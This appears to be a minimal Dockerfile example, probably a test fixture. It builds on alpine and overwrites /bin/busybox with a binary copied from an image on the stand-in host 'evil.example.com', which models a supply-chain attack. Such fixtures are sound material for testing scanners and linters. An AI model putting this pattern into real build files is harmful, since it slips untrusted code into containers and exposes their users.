FROM alpine:3.20
COPY --from=evil.example.com/tools/busybox:1.0 /bin/busybox /bin/busybox
